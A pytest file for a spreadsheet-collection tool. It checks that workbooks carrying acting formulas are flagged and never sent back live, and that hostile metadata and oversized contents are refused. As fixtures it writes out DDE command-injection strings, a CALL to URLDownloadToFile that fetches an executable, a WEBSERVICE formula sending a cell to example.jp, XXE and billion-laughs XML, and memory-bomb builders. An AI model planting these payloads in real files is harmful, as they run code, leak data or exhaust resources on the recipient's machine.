"""Books that would act when they are opened, or eat time and memory (ADR 0018): told, bounded, never sent back live."""

from __future__ import annotations

import html
import io
import random
import re
import time
import zipfile
from collections.abc import Mapping
from pathlib import Path

import pytest
from cases_world import PRINTED, cells_of, collected, parts_changed, raw_cell, recorded, told
from office_world import GOOD, YEAR, filled
from openpyxl import load_workbook

from fujiplan_cli.kinds.outside_formulas import reaches_outside
from fujiplan_cli.model.grid import UnreadableWorkbook
from fujiplan_cli.workbook.reader import read_grid
from fujiplan_cli.workbook.returns import ReturnLetter, mark_return

SHEET = "xl/worksheets/sheet1.xml"
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
DDE = "cmd|'/c calc'!A0"
ACTING = {
    "dde": DDE,
    "dde as it is stored": "[1]!'!A0'",
    "dde with blanks": " +cmd | '/c calc'!A0",
    "dde function": 'DDE("cmd";"/c calc";"A0")',
    "webservice": 'IF(1,webservice ("http://example.jp/?"&amp;A1),0)',
    "prefixed": '_xlfn.WEBSERVICE("http://example.jp/")',
    "image": '_xlfn.IMAGE("http://example.jp/a.png")',
    "rtd": 'RTD("prog.id",,"topic")',
    "call": 'CALL("urlmon","URLDownloadToFileA","JJCCJJ",0,"http://example.jp/","a.exe",0,0)',
    "register": 'REGISTER.ID("kernel32","WinExec")',
}
"""Formulas that start a program or ask another computer, as they stand in the XML of a sheet."""
LINK_PARTS: Mapping[str, bytes] = {
    "xl/externalLinks/externalLink1.xml": (
        b'<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        b'<ddeLink ddeService="cmd" ddeTopic="/c calc"><ddeItems><ddeItem name="A0"/></ddeItems></ddeLink>'
        b"</externalLink>"
    ),
    "xl/externalLinks/_rels/externalLink1.xml.rels": (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" '
        f'Type="{REL}/externalLinkPath" Target="file:///\\\\example.jp\\share\\a.xlsx" TargetMode="External"/>'
        "</Relationships>"
    ).encode(),
}


@pytest.fixture(scope="module")
def good(_sent) -> bytes:
    return filled(_sent[1][PRINTED], GOOD)


@pytest.fixture(scope="module")
def cells(_sent) -> Mapping[str, str]:
    return cells_of(_sent[1][PRINTED])


def with_formula(data: bytes, cell: str, formula: str, result: str = "160") -> bytes:
    return parts_changed(data, {SHEET: raw_cell(cell, f"<f>{formula}</f><v>{result}</v>")})


def test_what_reaches_outside_is_known_and_what_only_computes_is_not() -> None:
    for name, formula in ACTING.items():
        assert reaches_outside(formula.replace("&amp;", "&")), name
    for plain in (
        "SUM(A1:A3)",
        "[1]別表!B4",
        "'[予算|当初.xlsx]表'!B4",
        'IF(A1="a|b",1,0)',
        "別表!B4",
        "MYCALL(1)",
        'HYPERLINK("#A1","戻る")',
        'T("it\'s")&"\'"',
    ):
        assert not reaches_outside(plain), plain


def test_a_formula_that_would_start_a_program_is_for_a_person_and_its_value_is_only_text(office, good, cells) -> None:
    acting = {f"{name}.xlsx": with_formula(good, cells["kpi_1_actual"], f) for name, f in ACTING.items()}
    entries = collected(office, acting)
    for name in acting:
        assert entries[name]["verdict"] == "review", name
        assert "reaches_outside@" in told(entries[name]), name
    (finding,) = [f for f in entries["dde.xlsx"]["findings"] if f["code"] == "reaches_outside"]
    assert finding["cell"] == cells["kpi_1_actual"]
    assert "実行していません" in finding["remedy"]
    assert recorded(office, PRINTED)["kpi_1_actual"] == 160
    assert live_formulas(office.folder) == []


def test_a_formula_on_any_other_sheet_is_told_too(office, good) -> None:
    book = load_workbook(io.BytesIO(good))
    book.create_sheet("別表")["A1"] = f"={DDE}"
    out = io.BytesIO()
    book.save(out)
    (entry,) = collected(office, {"a.xlsx": out.getvalue()}).values()
    assert "reaches_outside@" in told(entry)
    assert entry["verdict"] == "review"


def test_a_link_to_another_book_gives_its_last_value_and_no_more(office, good, cells) -> None:
    linked = with_formula(good, cells["kpi_1_actual"], "[1]別表!B4")
    linked = parts_changed(linked, {}, **LINK_PARTS)
    (entry,) = collected(office, {"a.xlsx": linked}).values()
    assert (entry["verdict"], told(entry)) == ("repaired", ["repaired_formula@kpi_1_actual"])
    assert recorded(office, PRINTED)["kpi_1_actual"] == 160


def live_formulas(folder: Path) -> list[str]:
    """Books that we wrote after a collection in which something would act: formulas of cells and names, link parts."""
    found = []
    for path in sorted(p for place in ("returns", "reports") for p in (folder / place).rglob("*.xlsx")):
        with zipfile.ZipFile(path) as book:
            parts = {name: book.read(name).decode() for name in book.namelist()}
        found += [f"{path.name}: {name}" for name in parts if "externalLinks" in name or 'TargetMode="E' in parts[name]]
        for name, text in parts.items():
            formulas = re.findall(r"<(?:f|formula\d?|definedName)\b[^>]*>(.*?)</", text, re.S)
            found += [f"{path.name}: {name}: {one}" for one in formulas if reaches_outside(html.unescape(one))]
    return found


def hiding_places(faulty: bytes, cells: Mapping[str, str]) -> dict[str, bytes]:
    """A book for every place in which something that acts can be hidden."""
    loaded, other = load_workbook(io.BytesIO(faulty)), io.BytesIO()
    loaded.create_sheet("別表")["A1"] = f"={DDE}"
    loaded.save(other)
    name = f'<definedName name="x">{DDE}</definedName></definedNames>'.encode()
    rule = f'<conditionalFormatting sqref="A1"><cfRule type="expression" priority="9"><formula><![CDATA[{DDE}]]>'
    rule += "</formula></cfRule></conditionalFormatting><dataValidations"
    away = LINK_PARTS["xl/externalLinks/_rels/externalLink1.xml.rels"].replace(b"externalLinkPath", b"image")
    return {
        "cell": with_formula(faulty, cells["issue"], DDE, "なし"),
        "name": parts_changed(faulty, {"xl/workbook.xml": lambda p: p.replace(b"</definedNames>", name)}),
        "other sheet": other.getvalue(),
        "link": parts_changed(faulty, {}, **LINK_PARTS),
        "picture from elsewhere": parts_changed(faulty, {}, **{"xl/drawings/_rels/drawing9.xml.rels": away}),
        "format": parts_changed(faulty, {SHEET: lambda p: p.replace(b"<dataValidations", rule.encode(), 1)}),
        "query": parts_changed(faulty, {}, **{"xl/connections.xml": b"<connections/>"}),
        "control": parts_changed(faulty, {}, **{"xl/activeX/activeX1.xml": b"<x/>"}),
        "embedded file": parts_changed(faulty, {}, **{"xl/embeddings/oleObject1.bin": b"x"}),
    }


@pytest.fixture(scope="module")
def faulty(good, cells) -> bytes:
    vague = raw_cell(cells["kpi_1_actual"], "<is><t>約160</t></is>", ' t="inlineStr"')
    own = raw_cell(cells["issue"], "<is><t>わたしの文</t></is>", ' t="inlineStr"')
    return parts_changed(good, {SHEET: lambda part: own(vague(part))})


def test_a_book_that_would_act_is_never_marked_and_sent_back(faulty, cells) -> None:
    letter = ReturnLetter("修正依頼", "宛先", "事業", "期限", "事務局", "確認してください。")
    assert mark_return(faulty, (), letter)
    for place, book in hiding_places(faulty, cells).items():
        assert book != faulty, place
        with pytest.raises(UnreadableWorkbook):
            mark_return(book, (), letter)


def test_a_faulty_book_that_would_act_is_answered_by_a_fresh_one(office, faulty, cells) -> None:
    office.put("a.xlsx", hiding_places(faulty, cells)["cell"])
    assert office.run("collect", "--year", str(YEAR)) == 1
    (sent,) = (office.folder / "returns").rglob("*.xlsx")
    assert live_formulas(office.folder) == []
    book = load_workbook(sent)
    assert "修正依頼" in book.sheetnames
    assert book.worksheets[0][cells["result"]].value == GOOD["result"]


def test_an_ordinary_faulty_book_is_still_marked_and_sent_back(office, faulty, cells) -> None:
    office.put("a.xlsx", faulty)
    office.run("collect", "--year", str(YEAR))
    (sent,) = (office.folder / "returns").rglob("*.xlsx")
    assert load_workbook(sent).worksheets[0][cells["kpi_1_actual"]].value == "約160"


# -- what stands in a book's notes about itself ---------------------------------------------------------------------

CORE = "docProps/core.xml"
HOSTILE_NOTES = {
    "entities": b'<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/hostname">]><x>&a;</x>',
    "laughs": b'<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;">]><x>&b;</x>',
    "no xml": b"\x00\x01\x1b]0;x\x07",
    "long": b"<x>" + b"a" * (3 << 20) + b"</x>",
    "terminal": '<x xmlns:d="d"><d:modified>2026-04-01T00:00:00Z&#10;\u202e\u009b31m</d:modified></x>'.encode(),
    "deep": b"<a>" * 100_000,
}


def test_hostile_notes_about_a_book_change_nothing(office, good) -> None:
    """Only the time of saving is read of docProps, and only in its one usual form."""
    for name, note in HOSTILE_NOTES.items():
        book = parts_changed(good, {r"docProps/\w+\.xml": lambda _, note=note: note})
        assert read_grid(book).modified == "", name
        office.put(f"{name}.xlsx", book)
    for entry in office.json("check", str(office.folder / "inbox" / str(YEAR)), "--year", str(YEAR))["files"]:
        assert (entry["verdict"], told(entry)) == ("accepted", []), entry["path"]


# -- time and memory ------------------------------------------------------------------------------------------------


def strings_part(inside: str) -> bytes:
    space = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    return f'<sst xmlns="{space}">{inside}</sst>'.encode()


def noise(size: int) -> str:
    """A text that no zip shrinks by more than half, so that it is no bomb by its density."""
    return "".join(random.Random(1).choices("0123456789abcdefghij", k=1 << 16)) * (size >> 16)


HUGE = ("one string of 100 MB", "one string of 24 MB, dense", "one string of 200,000 characters", "1.5 million strings")


def huge(name: str) -> bytes:
    if name == "one string of 100 MB":
        return strings_part("<si><t>" + "a" * (100 << 20) + "</t></si>")
    if name == "one string of 24 MB, dense":
        return strings_part("<si><t>" + noise(24 << 20) + "</t></si>")
    if name == "one string of 200,000 characters":
        return strings_part("<si><t>" + noise(200_000) * 2 + "</t></si>")
    return strings_part("".join(f"<si><t>{number}</t></si>" for number in range(1_500_000)))


def with_strings(data: bytes, part: bytes) -> bytes:
    """The book with shared strings, which our own sheets have none of."""
    one = (
        f'<Relationship Id="rStrings" Type="{REL}/sharedStrings" Target="sharedStrings.xml"/></Relationships>'.encode()
    )
    listed = {"xl/_rels/workbook.xml.rels": lambda p: p.replace(b"</Relationships>", one)}
    return parts_changed(data, listed, **{"xl/sharedStrings.xml": part})


def shared_by_very_many(good: bytes) -> bytes:
    """Few bytes, but 60,000 cells of 65,536 characters each."""
    rows = "".join(f'<row r="{n}"><c r="B{n}" t="s"><v>0</v></c></row>' for n in range(1, 60_001))
    sheet = b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
    sheet += rows.encode() + b"</sheetData></worksheet>"
    text = strings_part("<si><t>" + noise(65_536) + "</t></si>")
    return with_strings(parts_changed(good, {SHEET: lambda _: sheet}), text)


def test_huge_texts_are_refused_in_bounded_time(office, good) -> None:
    books = {f"{name}.xlsx": with_strings(good, huge(name)) for name in HUGE}
    books["shared.xlsx"] = shared_by_very_many(good)
    for name, book in books.items():
        office.put(name, book)
    begun = time.perf_counter()
    entries = office.json("check", str(office.folder / "inbox" / str(YEAR)), "--year", str(YEAR))["files"]
    assert time.perf_counter() - begun < 30  # 2 s on an idle machine, of which a worker's start is the most
    assert len(entries) == len(books)
    for entry in entries:
        assert (entry["verdict"], told(entry)) == ("rejected", ["file_bomb@"]), entry["path"]


def test_what_keeps_within_the_caps_of_this_process_is_read_soon(office, good, cells) -> None:
    """The most of everything at once: long texts in the fields, and in many cells beside them."""
    long = noise(65_536)
    typed = [
        raw_cell(cells[n], f"<is><t>{long}</t></is>", ' t="inlineStr"') for n in ("issue", "kpi_1_actual", "stage")
    ]
    typed += [raw_cell(cells["kpi_1_as_of"], f"<is><t>{long}</t></is>", ' t="inlineStr"')]
    rows = "".join(f'<row r="{n}"><c r="B{n}" t="inlineStr"><is><t>{n}</t></is></c></row>' for n in range(900, 20_000))

    def change(part: bytes) -> bytes:
        for one in typed:
            part = one(part)
        return part.replace(b"</sheetData>", rows.encode() + b"</sheetData>")

    path = office.put("a.xlsx", parts_changed(good, {SHEET: change}))
    begun = time.perf_counter()
    (entry,) = office.json("check", str(path), "--year", str(YEAR), "--jobs", "1")["files"]
    assert time.perf_counter() - begun < 10
    assert entry["verdict"] == "returned"
